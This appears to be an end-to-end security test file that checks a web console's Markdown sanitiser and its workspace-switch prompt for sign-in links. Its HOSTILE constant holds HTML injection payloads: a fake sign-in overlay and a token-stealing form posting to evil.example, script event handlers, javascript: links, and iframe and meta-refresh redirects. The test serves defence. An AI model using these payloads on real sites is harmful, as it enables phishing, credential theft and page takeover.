import { beforeAll, describe, expect, it } from 'vitest';
import { createSignInCode } from '../../src/domain/sign-in-links.js';
import { validCode } from '../fixtures/code.js';
import { connectorPath, useConsole } from './harness.js';
import { CREATE } from '../helpers/documents.js';

/** Descriptions an attacker shares: page takeover without script (issue 19), and the usual script attempts. */
const HOSTILE = [
  '<style>header, .top { display: none !important }</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:white">Session expired — <a href="https://evil.example/login">sign in here</a></div>',
  '<form action="https://evil.example/steal"><input name="token" placeholder="API token"><button>Sign in</button></form>',
  '<a href="/sign-in#code=sic_attacker">continue</a> <a href="javascript:alert(1)">js</a>',
  '<img src="x" onerror="window.__pwned = 1"> <svg onload="window.__pwned = 2"><style>body{display:none}</style></svg>',
  '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><details open><summary>x</summary>y</details><math><mi>x</mi></math>',
  '<p class="top" id="main" data-x="1" aria-hidden="true">borrowed names</p>',
  '[markdown link](https://example.org/docs) and **bold**, `code`,\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [ ] task',
].join('\n\n');

describe('the console holds against hostile descriptions and sign-in links', () => {
  const c = useConsole();
  let admin: string;

  beforeAll(async () => {
    admin = await c.t.token('acme', 'ADMIN', 'alice');
  });

  it("keeps a description to Markdown's own elements, inside its box, with links marked external", async () => {
    const { connector } = await c.gql(admin, CREATE, {
      input: { title: 'Hostile', code: validCode(), description: HOSTILE },
    });
    const page = await c.signedIn(admin, { path: connectorPath(connector.id) });
    const box = page.locator('.markdown');
    await box.waitFor();
    await page.getByText('borrowed names').waitFor();
    const report = await box.evaluate((root) => {
      const all = [...root.querySelectorAll('*')];
      const rect = root.getBoundingClientRect();
      return {
        tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
        attributes: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))].sort(),
        links: [...root.querySelectorAll('a')].map((a) => ({
          href: a.getAttribute('href'),
          rel: a.rel,
          target: a.target,
        })),
        outside: all.filter((e) => {
          const r = e.getBoundingClientRect();
          return (
            r.width > 0 &&
            (r.left < rect.left - 1 ||
              r.right > rect.right + 1 ||
              r.top < rect.top - 1 ||
              r.bottom > rect.bottom + 1)
          );
        }).length,
        pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      };
    });
    expect(
      report.tags.filter((t) =>
        [
          'style',
          'form',
          'input',
          'button',
          'iframe',
          'svg',
          'base',
          'meta',
          'link',
          'div',
          'details',
          'math',
          'script',
        ].includes(t),
      ),
    ).toEqual([]);
    expect(
      report.attributes.filter(
        (a) =>
          ![
            'href',
            'title',
            'src',
            'alt',
            'align',
            'start',
            'target',
            'rel',
            'class',
            'referrerpolicy',
          ].includes(a),
      ),
    ).toEqual([]);
    expect(await box.locator('[style], [id], [data-x]').count()).toBe(0);
    expect(report.links.length).toBeGreaterThan(0);
    for (const link of report.links) {
      if (link.href !== null) expect(link.href).toMatch(/^(https?:|mailto:)/);
      expect(link.rel).toContain('noopener');
      expect(link.rel).toContain('external');
      expect(link.target).toBe('_blank');
    }
    expect(report.outside).toBe(0);
    expect(report.pwned).toBeNull();
    expect(await page.locator('table').count()).toBeGreaterThan(0);
    // The console's own header is still there, and nothing covers it.
    expect(await page.getByRole('button', { name: 'Sign out' }).isVisible()).toBe(true);
    await page.getByRole('button', { name: 'Sign out' }).click({ trial: true });
  });

  it('asks before a sign-in link switches a browser signed in to another workspace, and Sign out ends the session', async () => {
    await c.t.token('evil', 'ADMIN', 'mallory');
    const prisma = c.t.server.registry.db.prisma;
    const victim = await c.signedIn(admin);
    const context = victim.context();
    // The attacker's link, opened in a fresh tab of the same browser.
    const first = await createSignInCode(prisma, { workspace: 'evil', handle: 'mallory' });
    const tab = await context.newPage();
    await tab.goto(`${c.base}/sign-in#code=${first.code}`);
    await tab.getByRole('heading', { name: 'Switch workspace?' }).waitFor();
    expect(await tab.getByRole('alert').innerText()).toMatch(
      /mallory in workspace evil.*alice in acme/s,
    );
    await tab.getByRole('button', { name: 'Cancel' }).click();
    await tab.getByLabel('API token').waitFor();
    expect(await tab.evaluate(() => sessionStorage.getItem('registry.token'))).toBeNull();
    // The session the link made was ended on the server.
    await expect
      .poll(() =>
        prisma.apiToken.count({
          where: { member: { handle: 'mallory' }, expiresAt: { not: null }, revokedAt: null },
        }),
      )
      .toBe(0);

    // Asked for on purpose: the switch goes ahead; Sign out then revokes that session.
    const second = await createSignInCode(prisma, { workspace: 'evil', handle: 'mallory' });
    await tab.goto(`${c.base}/sign-in#code=${second.code}`);
    await tab.getByRole('button', { name: 'Sign in to evil' }).click();
    await tab.getByText('mallory · admin in').waitFor();
    const session = await tab.evaluate(() => sessionStorage.getItem('registry.token'));
    expect((await c.t.gql('{ viewer { member { handle } } }', {}, session!)).status).toBe(200);
    await tab.getByRole('button', { name: 'Sign out' }).click();
    await tab.getByLabel('API token').waitFor();
    await expect
      .poll(async () => (await c.t.gql('{ viewer { member { handle } } }', {}, session!)).status)
      .toBe(401);
  });
});
